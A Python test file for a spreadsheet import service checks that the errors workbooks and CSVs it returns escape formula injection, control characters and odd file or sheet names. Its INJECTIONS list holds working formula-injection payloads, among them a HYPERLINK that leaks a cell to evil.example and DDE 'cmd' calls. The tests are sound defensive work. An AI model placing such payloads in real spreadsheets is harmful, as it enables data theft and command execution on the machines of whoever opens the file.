"""Files handed back to managers — the errors workbook and the drop zone's errors CSV — are safe to open
whatever the file received: built outside the API process within bounds, once, with every cell as text
that no spreadsheet program runs as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
import resource
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from werkzeug.http import parse_options_header

from prorata.adapters.local_drop_outcomes import LocalDropOutcomes
from prorata.adapters.spreadsheets.error_workbooks import SandboxedErrorWorkbooks
from prorata.config.bootstrap import Components
from prorata.domain.problems import ErrorCode, Problem
from prorata.entrypoints.api.app import create_app
from tests import workbooks
from tests.api_client import Caller

# What a spreadsheet program may run, or shift into a formula, when a cell starts with it.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HEADER = ["Piso", "Lectura anterior", "Lectura actual"]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalle")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def imported(manager: Caller, drain: Callable[[], None], content: bytes, name: str, **form: str) -> str:
    sent = manager.upload("/v1/imports", content, name, **form)
    assert sent.status_code in (200, 202), sent.get_json()
    drain()
    url: str = sent.get_json()["url"]
    return url


def cells(book: openpyxl.Workbook) -> Iterator[Cell]:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_nothing_runs(book: openpyxl.Workbook) -> None:
    formulas = [c.coordinate for c in cells(book) if c.data_type == "f"]
    assert formulas == []
    live = [c.value for c in cells(book) if isinstance(c.value, str) and c.value.startswith(TRIGGERS)]
    assert live == []
    assert [n for n in book.sheetnames if n.startswith((*TRIGGERS, "'"))] == []


def peak_memory_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_the_errors_workbook_of_a_sheet_with_a_row_at_one_million_holds_its_rows_at_once(
    manager: Caller, community: dict[str, Any], drain: Callable[[], None], tmp_path: Path
) -> None:
    rows: workbooks.Rows = [HEADER, ["1A", 10, 20], ["1B", 5, "siete"], ["1C", 1, 2]]
    content = workbooks.xlsx_with_a_row_at(tmp_path / "far.xlsx", 1_000_000, {"Lecturas": rows}).read_bytes()
    assert len(content) < 10_000
    url = imported(manager, drain, content, "far.xlsx", community_id=community["id"])
    before = peak_memory_mib()
    answer = manager.get(f"{url}/errors.xlsx")
    assert answer.status_code == 200
    # No clock here (a loaded machine is no measure): a workbook that walked the empty million rows would
    # write them, and it is under 100 rows and 100 KB.
    assert peak_memory_mib() - before < 200  # the API process did not build it
    assert len(answer.data) < 100_000
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    sheet = book["Lecturas"]
    values = [[c for c in row if c is not None] for row in sheet.iter_rows(values_only=True)]
    assert values[:4] == [[*HEADER], ["1A", 10, 20], ["1B", 5, "siete", values[2][3]], ["1C", 1, 2]]
    assert "'siete' is not a number" in values[2][3]
    assert ["far"] in [v[:1] for v in values]
    assert sheet.max_row < 100


def test_a_second_download_of_the_errors_workbook_gives_the_same_file(
    manager: Caller, community: dict[str, Any], drain: Callable[[], None], tmp_path: Path
) -> None:
    rows = [HEADER, ["1A", "10", "diez"]]
    content = workbooks.xlsx(tmp_path / "lecturas.xlsx", {"Lecturas": rows}).read_bytes()
    url = imported(manager, drain, content, "lecturas.xlsx", community_id=community["id"])
    first = manager.get(f"{url}/errors.xlsx")
    time.sleep(1.1)  # a workbook built again would carry another time of creation
    second = manager.get(f"{url}/errors.xlsx")
    assert first.status_code == second.status_code == 200
    assert first.data == second.data


def test_formulas_in_cells_headers_and_sheet_names_come_back_as_text(
    manager: Caller, community: dict[str, Any], drain: Callable[[], None], tmp_path: Path
) -> None:
    rows = [
        [*HEADER, INJECTIONS[0]],
        *[["1A", "1", value, value] for value in INJECTIONS],
    ]
    sheets: dict[str, workbooks.Rows] = {
        "Lecturas": rows,
        "=WEBSERVICE(1)": [[INJECTIONS[1]], [INJECTIONS[5]]],
    }
    content = workbooks.xlsx_of_text(tmp_path / "x.xlsx", sheets).read_bytes()
    url = imported(manager, drain, content, "=cmd.xlsx", community_id=community["id"])
    answer = manager.get(f"{url}/errors.xlsx")
    assert answer.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    assert_nothing_runs(book)
    sheet = book["Lecturas"]
    assert sheet["D1"].value == "'" + INJECTIONS[0]
    # (XML reads a carriage return as a line feed.)
    assert [sheet.cell(row=n, column=3).value for n in range(2, 2 + len(INJECTIONS))] == [
        "'" + value.replace("\r", "\n") for value in INJECTIONS
    ]
    texts = {c.value for c in cells(book) if isinstance(c.value, str)}
    assert "'=cmd.xlsx" in texts  # the summary names the file
    assert {"'" + INJECTIONS[1], "'" + INJECTIONS[5]} <= texts  # the second sheet, under a safe name


def test_a_mapped_header_like_a_formula_comes_back_as_text_in_the_summary(
    manager: Caller, community: dict[str, Any], drain: Callable[[], None]
) -> None:
    manager.created(
        "/v1/mapping-profiles",
        {"name": "Hostil", "mapping": {"unit": "@Ref", "previous": "+Ant", "current": "=Act"}},
    )
    content = b"@Ref;+Ant;=Act\r\n1A;1;-dos\r\n"
    url = imported(manager, drain, content, "lecturas.csv", community_id=community["id"])
    errors = manager.get(f"{url}/errors").get_json()
    assert [e["column"] for e in errors] == ["=Act"]
    book = openpyxl.load_workbook(io.BytesIO(manager.get(f"{url}/errors.xlsx").data))
    assert_nothing_runs(book)
    assert [c.value for c in book["lecturas"][1][:3]] == ["'@Ref", "'+Ant", "'=Act"]
    assert book["lecturas"]["C2"].value == "'-dos"
    assert "'=Act" in {c.value for c in cells(book)}


def hostile_file(name: str, folder: Path) -> bytes:
    if name == "control.csv":
        plain = "".join(f"{n}B;1;2\r\n" for n in range(30))
        return f"Piso;Lectura anterior;Lectura actual\r\n1A;1;2\x01\r\n1B\x1b[31m;1;2\r\n{plain}".encode()
    if name == "odd.xlsx":
        sheets: dict[str, workbooks.Rows] = {"Lecturas": [HEADER, ["1A", 1, "x"]], "Hoja": [[1]]}
        odd = workbooks.xlsx(folder / "odd.xlsx", sheets)
        odd = workbooks.rename_sheet(odd, "Hoja", "Lecturas/2026: [marzo]*?" + "x" * 40)
        return workbooks.rename_sheet(odd, "Lecturas", "LECTURAS/2026: [marzo]*?" + "x" * 40).read_bytes()
    if name == "corrupted.xlsx":
        return workbooks.xlsx_with_corrupted_data(folder / "bad.xlsx").read_bytes()
    return b"Piso;Lectura actual\r\n1A;uno\r\n"


@pytest.mark.parametrize(
    "name", ["control.csv", "rows[1].csv", 'a "quoted" name; ñandú €.csv', "odd.xlsx", "corrupted.xlsx"]
)
def test_control_characters_odd_sheet_and_file_names_and_corrupted_data_never_fail_the_download(
    manager: Caller, community: dict[str, Any], drain: Callable[[], None], tmp_path: Path, name: str
) -> None:
    url = imported(manager, drain, hostile_file(name, tmp_path), name, community_id=community["id"])
    answer = manager.get(f"{url}/errors.xlsx")
    assert answer.status_code in (200, 422), (answer.status_code, answer.data[:300])
    if answer.status_code == 422:
        [error] = answer.get_json()["errors"]
        assert error["code"] == "unsupported_file", error
        assert name in error["message"], error
        return
    disposition = answer.headers["Content-Disposition"]
    assert disposition.isascii()
    assert not set(disposition) & set("\r\n")
    _, options = parse_options_header(disposition)
    assert options["filename"].endswith(".errors.xlsx"), disposition
    assert not set(options["filename"]) & set('"\\/;'), disposition
    book = openpyxl.load_workbook(io.BytesIO(answer.data))
    assert_nothing_runs(book)
    titles = book.sheetnames
    assert len({t.casefold() for t in titles}) == len(titles)
    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles), titles
    if name == "control.csv":
        texts = [c.value for c in cells(book) if isinstance(c.value, str)]
        assert "2\ufffd" in texts
        assert "1B\ufffd[31m" in texts
    if name == "odd.xlsx":
        assert len(titles) == 3


def test_a_workbook_the_sandbox_cannot_build_is_a_clear_error_asked_again_at_once(
    components: Components,
    manager: Caller,
    community: dict[str, Any],
    drain: Callable[[], None],
    tmp_path: Path,
) -> None:
    rows: workbooks.Rows = [HEADER, *[[f"{n}A", n, "x" * 50] for n in range(300)]]
    content = workbooks.xlsx(tmp_path / "lecturas.xlsx", {"Lecturas": rows}).read_bytes()
    url = imported(manager, drain, content, "lecturas marzo.xlsx", community_id=community["id"])
    # A sandbox that may write no more than 2 KB: this workbook's errors do not fit.
    cramped = SandboxedErrorWorkbooks(tmp_path / "cramped", output_bytes=2_000)
    api = create_app(dataclasses.replace(components, error_workbooks=cramped))
    caller = Caller(api.test_client(), manager.key)
    builds: list[object] = []
    build = cramped._run_child

    def counted(*given: Any) -> Any:
        builds.append(given)
        return build(*given)

    cramped._run_child = counted  # type: ignore[method-assign,assignment]
    for _ in range(2):
        answer = caller.get(f"{url}/errors.xlsx")
        assert answer.status_code == 422
        [error] = answer.get_json()["errors"]
        assert error["code"] == "file_too_large"
        assert error["message"].startswith("lecturas marzo.xlsx: ")
    assert len(builds) == 1  # the second time, nothing was built


def test_the_drop_zone_errors_csv_keeps_formulas_as_text(tmp_path: Path) -> None:
    account = tmp_path / "acme"
    (account / "inbox").mkdir(parents=True)
    (account / "inbox" / "lecturas.csv").write_text("x")
    problems = [
        Problem(ErrorCode.INVALID_NUMBER, "-dos is not a number", row=2, column="=Act"),
        Problem(ErrorCode.INVALID_NUMBER, "@SUM(1)", row=3, column='=HYPERLINK("http://e","x")'),
        Problem(ErrorCode.INVALID_NUMBER, "\tx", row=4, column="+Ant"),
    ]
    LocalDropOutcomes(tmp_path).write("acme", "inbox/lecturas.csv", "failed", {"status": "failed"}, problems)
    with (account / "failed" / "lecturas.csv.errors.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows == [
        ["row", "column", "code", "message"],
        ["2", "'=Act", "invalid_number", "'-dos is not a number"],
        ["3", '\'=HYPERLINK("http://e","x")', "invalid_number", "'@SUM(1)"],
        ["4", "'+Ant", "invalid_number", "'\tx"],
    ]
